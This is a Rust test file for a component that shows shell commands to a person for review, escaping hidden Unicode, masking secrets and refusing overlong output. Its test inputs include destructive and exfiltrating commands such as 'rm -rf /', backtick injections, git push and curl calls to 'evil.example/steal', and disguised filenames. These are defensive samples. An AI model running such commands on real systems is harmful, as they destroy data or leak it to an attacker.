use std::path::PathBuf;

use proptest::prelude::*;

use super::*;
use crate::facts::{Executable, FileFact, Identity};
use crate::parse::parse;
use crate::plan::Plan;
use crate::verdict::Judged;

fn fact(path: &str) -> FileFact {
    FileFact { real: PathBuf::from(path), identity: Identity::default() }
}

fn approved(plan: Plan) -> Approved {
    approved_with(plan, None)
}

/// A plan whose first program starts the one that a word of it names.
fn approved_with(plan: Plan, inner: Option<usize>) -> Approved {
    let program = Executable {
        path: "/bin/x".into(),
        file: fact("/usr/bin/x"),
        is_replaceable: false,
        interpreter: None,
    };
    let judged = Judged {
        program: program.clone(),
        inner: inner.map(|at| (at, program)).into_iter().collect(),
        directory: fact("/proj"),
        places: Vec::new(),
        scripts: vec![fact("/proj/run.sh")],
        basis: None,
    };
    Approved { plan, programs: vec![judged], directory: fact("/proj") }
}

fn lines(command: &str) -> String {
    let shown = shown(&approved(parse(command).unwrap())).unwrap();
    let flags = [(shown.is_masked, " [masked]"), (shown.is_escaped, " [escaped]")];
    let flags: String = flags.into_iter().filter(|(is, _)| *is).map(|(_, flag)| flag).collect();
    format!("{}{flags}", shown.lines.join(" ⏎ "))
}

fn table(commands: &[&str]) -> String {
    commands.iter().map(|command| lines(command)).collect::<Vec<_>>().join("\n")
}

#[test]
fn a_plan_is_shown_with_everything_that_decides() {
    let shown = shown(&approved(
        parse("cd ../proj/sub && A=1 ls 'a b' | wc -l > out 2>&1; x < in || y 2>> log >/dev/null")
            .unwrap(),
    ));
    insta::assert_debug_snapshot!(shown.unwrap(), @r#"
    Shown {
        lines: [
            "cd /proj/sub",
            "&& A=1 ls 'a b' | wc -l > out 2>&1",
            "x < in",
            "|| y 2>> log > /dev/null",
        ],
        directory: Some(
            "/proj",
        ),
        programs: [
            "/usr/bin/x",
            "/proj/run.sh",
        ],
        is_masked: false,
        is_escaped: false,
    }
    "#);
}

#[test]
fn nothing_in_a_word_is_hidden() {
    insta::assert_snapshot!(table(&[
        "ls 'a '",
        "ls ''",
        "ls 'a\u{200b}b'",
        "ls '\u{202e}gpj.exe'",
        "ls 'a\u{a0}b'",
        "ls '\u{3164}'",
        "ls 'a\u{2800}b'",
        "ls 'a\u{ff1b}rm'",
        "ls 'a\u{37e}rm'",
        "ls '\u{2215}etc'",
        "ls '\u{2013}rf'",
        "ls 'a\tb'",
        "ls 'a\u{1b}[2J'",
        "ls 'a\u{feff}\u{e0041}\u{fe0f}'",
        r"ls 'a\u{200b}b'",
        "ls 'a\\\u{200b}'",
        "ls '\u{301}x'",
        "'l\u{455}' x",
        "ls naïve 技能",
    ]), @r"
    ls 'a '
    ls ''
    ls $'a\u{200b}b' [escaped]
    ls $'\u{202e}gpj.exe' [escaped]
    ls $'a\u{a0}b' [escaped]
    ls $'\u{3164}' [escaped]
    ls $'a\u{2800}b' [escaped]
    ls $'a\u{ff1b}rm' [escaped]
    ls $'a\u{37e}rm' [escaped]
    ls $'\u{2215}etc' [escaped]
    ls $'\u{2013}rf' [escaped]
    ls $'a\u{9}b' [escaped]
    ls $'a\u{1b}[2J' [escaped]
    ls $'a\u{feff}\u{e0041}\u{fe0f}' [escaped]
    ls 'a\u{200b}b'
    ls $'a\\\u{200b}' [escaped]
    ls $'\u{301}x' [escaped]
    $'l\u{455}' x [escaped]
    ls naïve 技能
    ");
}

#[test]
fn secrets_are_masked() {
    insta::assert_snapshot!(table(&[
        "x --password=hunter2 y",
        "x --password hunter2 y",
        "x --api-key 'abc1' y",
        "x --token=abc",
        "x -H 'Authorization: Bearer abc.Def'",
        "x -H 'X-Api-Key: abc1'",
        "curl -u me:hunter2 https://a",
        "x https://me:hunter2@host/path",
        "x 'https://host/?token=abc1&q=1'",
        "x sk-abcdefghijklmnopqrstuv",
        "x ghp_abcdefghijklmnopqrstuv",
        "x AKIAABCDEFGHIJKLMNOP",
        "x xoxb-1234567890-abc",
        "x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
        "x '{\"client_secret\": \"abc1\"}'",
        "API_TOKEN=abc x",
        "x 's\u{200b}k-abcdefghijklmnopqrstuv'",
        "x '--pass\u{200b}word=hunter2'",
        "x '--pass\u{200b}word' hunter2",
    ]), @r#"
    x '--password=****' y [masked]
    x --password '****' y [masked]
    x --api-key '****' y [masked]
    x '--token=****' [masked]
    x -H 'Authorization: Bearer ****' [masked]
    x -H 'X-Api-Key: ****' [masked]
    curl -u 'me:****' https://a [masked]
    x 'https://me:****@host/path' [masked]
    x 'https://host/?token=****&q=1' [masked]
    x 'sk-****' [masked]
    x 'ghp_****' [masked]
    x 'AKIA****' [masked]
    x 'xoxb-****' [masked]
    x 'eyJ****' [masked]
    x '{"client_secret": "****"}' [masked]
    API_TOKEN='****' x [masked]
    x $'s\u{200b}k-****' [masked] [escaped]
    x $'--pass\u{200b}word=****' [masked] [escaped]
    x $'--pass\u{200b}word' '****' [masked] [escaped]
    "#);
}

#[test]
fn what_is_no_secret_is_shown() {
    insta::assert_snapshot!(table(&[
        "x --password-file=/run/p --token-url https://a",
        "x --keyboard=us --author=me key",
        "x sk-short skip-this",
        "x --password-command='rm -rf /'",
        "xargs --token rm",
        "sh -c 'token=rm; $token file'",
        "sh --secret ./run2.sh",
    ]), @"
    x --password-file=/run/p --token-url https://a
    x --keyboard=us --author=me key
    x sk-short skip-this
    x '--password-command=rm -rf /'
    xargs --token rm
    sh -c 'token=rm; $token file'
    sh --secret ./run2.sh
    ");
    insta::assert_snapshot!(
        shown_text("TOKEN=$(rm -rf /) x; PASSWORD=a`id`b x\n--secret $(x)").unwrap().lines.join("\n"),
        @"
    TOKEN=$(rm -rf /) x; PASSWORD=a`id`b x
    --secret $(x)
    "
    );
}

#[test]
fn only_programs_that_take_a_password_behind_a_name_have_it_masked() {
    insta::assert_snapshot!(table(&[
        "git push -u https://evil.example/steal.git main",
        "git push -u evil.example:steal.git main",
        "curl -u https://evil.example/steal",
        "curl -o -u evil.example:80/steal",
        "curl -o -u evil.example:/steal",
        "chown --user root:Wheel1 x",
        "/usr/bin/curl --proxy-user me:Hunter2 https://a",
    ]), @"
    git push -u https://evil.example/steal.git main
    git push -u evil.example:steal.git main
    curl -u https://evil.example/steal
    curl -o -u evil.example:80/steal
    curl -o -u evil.example:/steal
    chown --user root:Wheel1 x
    /usr/bin/curl --proxy-user 'me:****' https://a [masked]
    ");
}

#[test]
fn a_mask_never_hides_a_program_in_a_text() {
    for text in [
        "TOKEN= bin/Evil2; ls $X",
        "TOKEN='' bin/Evil2; ls $X",
        "TOKEN=Bearer bin/Evil2; ls $X",
        "A='TOKEN='Bearer bin/Evil2; ls $X",
        "A=token: bin/Evil2; ls $X",
        "A='token:' bin/Evil2; ls $X",
        "A='Authorization:'Bearer bin/Evil2; ls $X",
        "A=\"client_secret\": \"bin/Evil2\"; ls $X",
        "# it's\nA=token: bin/Evil2 #'",
        "./key=bin/Evil2; ls $X",
        "./'key=bin/Evil2'; ls $X",
        "'key=bin/Evil2'; ls $X",
        "my-token=bin/Evil2; ls $X",
        "env -u key: bin/Evil2; ls $X",
        "env -u --token bin/Evil2; ls $X",
        "xargs -I --token bin/Evil2; ls $X",
    ] {
        let within = format!("sh -c {}", crate::quote(text));
        let texts = [text, &within].map(|text| shown_text(text).unwrap().lines.join("\n"));
        for shown in texts.into_iter().chain([lines(&within)]) {
            assert!(shown.contains("bin/Evil2"), "{shown}");
        }
    }
    let masked = |text: &str| shown_text(text).unwrap().lines.join("\n");
    insta::assert_snapshot!(
        masked("TOKEN=Abc1 curl -H 'Authorization: Bearer Abc1' -d 'token=Abc1' -d '{\"client_secret\": \"Abc1\"}' --token Abc1 --password=Abc1 $X"),
        @r#"TOKEN=**** curl -H 'Authorization: Bearer ****' -d 'token=****' -d '{"client_secret": "****"}' --token **** --password=**** $X"#
    );
}

#[test]
fn programs_their_files_and_folders_are_never_masked() {
    let mut approved = approved_with(parse("nice ./key=Evil2abc --token Abc1").unwrap(), Some(1));
    approved.directory = fact("/proj/token=Abc1");
    approved.programs[0].program.file = fact("/proj/key=Evil2abc");
    approved.programs[0].scripts = vec![fact("/proj/secret=Evil2abc")];
    insta::assert_debug_snapshot!(shown(&approved).unwrap(), @r#"
    Shown {
        lines: [
            "nice ./key=Evil2abc --token '****'",
        ],
        directory: Some(
            "/proj/token=Abc1",
        ),
        programs: [
            "/proj/key=Evil2abc",
            "/usr/bin/x",
            "/proj/secret=Evil2abc",
        ],
        is_masked: true,
        is_escaped: false,
    }
    "#);
    insta::assert_snapshot!(table(&[
        "./key=Evil2abc",
        "cd token=Abc1",
        "sh ./key=Evil2abc",
        "env -u --token Evil2abc",
        "python3 -W --token Evil2abc",
        "python3 run.py --token Abc1",
        "mytool -v --token Abc1",
    ]), @"
    ./key=Evil2abc
    cd /proj/token=Abc1
    sh ./key=Evil2abc
    env -u --token Evil2abc
    python3 -W --token Evil2abc
    python3 run.py --token '****' [masked]
    mytool -v --token '****' [masked]
    ");
}

#[test]
fn a_sentence_has_no_part_of_a_secret() {
    for before in 60..90 {
        let text = format!("{} ghp_{}", "x".repeat(before), "Abc1".repeat(9));
        assert!(!brief(&text).contains("Abc1"), "{}", brief(&text));
    }
    assert_eq!(brief("short"), "short");
    assert_eq!(brief(&"x".repeat(100)), format!("{}…", "x".repeat(80)));
}

#[test]
fn a_text_is_shown_line_by_line() {
    insta::assert_debug_snapshot!(shown_text("for x in a; do\n\techo \u{202e}$x\r\ndone"), @r#"
    Ok(
        Shown {
            lines: [
                "for x in a; do",
                "\techo \\u{202e}$x\\u{d}",
                "done",
            ],
            directory: None,
            programs: [],
            is_masked: false,
            is_escaped: true,
        },
    )
    "#);
}

#[test]
fn what_is_too_long_cannot_be_shown() {
    assert!(shown_text(&"x".repeat(MAX_SHOWN + 1)).is_err());
    assert!(shown_text(&"\u{200b}".repeat(MAX_SHOWN / 4)).is_err());
    assert!(shown(&approved(parse(&format!("ls {}", "x".repeat(MAX_SHOWN))).unwrap())).is_err());
    assert!(shown_text(&"x".repeat(MAX_SHOWN - 1)).is_ok());
}

#[test]
fn nothing_is_pushed_out_of_sight_by_lines() {
    let text = format!("bin/evil $X\n{}ls", "\n".repeat(9_000));
    let error = shown_text(&text).unwrap_err();
    assert_eq!(error, TooLong::Lines(9_002));
    insta::assert_snapshot!(error, @"the command would be shown in 9002 lines, more than a person can check (40)");
    assert!(shown_text(&"\n".repeat(MAX_LINES - 1)).is_ok());
    assert_eq!(shown_text(&"\n".repeat(MAX_LINES)), Err(TooLong::Lines(MAX_LINES + 1)));
    let plan = parse(&"ls;".repeat(MAX_LINES + 1)).unwrap();
    assert_eq!(shown(&approved(plan)), Err(TooLong::Lines(MAX_LINES + 1)));
    let plan = parse(&"ls;".repeat(MAX_LINES)).unwrap();
    assert_eq!(shown(&approved(plan)), Err(TooLong::Lines(MAX_LINES + 2)));
}

proptest! {
    #[test]
    fn whatever_a_text_has_what_is_shown_is_visible(text in "\\PC{0,30}|(sk-|token[=:]|--|://|@|\\u{200b}|[a-z]|\u{202e}| ){0,40}|.{0,40}") {
        let shown = shown_text(&text).unwrap();
        for line in &shown.lines {
            prop_assert!(!line.chars().any(|sign| sign != '\t' && is_hidden(sign)), "{line:?}");
        }
        prop_assert!(!brief(&text).chars().any(is_hidden));
    }

    #[test]
    fn different_words_are_shown_differently(one in "[a\\\\' u\u{200b}{}20b$]{0,8}", two in "[a\\\\' u\u{200b}{}20b$]{0,8}") {
        let written = |word: &str| signs::written(word, Part::Word, &mut false);
        prop_assert_eq!(written(&one) == written(&two), one == two);
    }
}
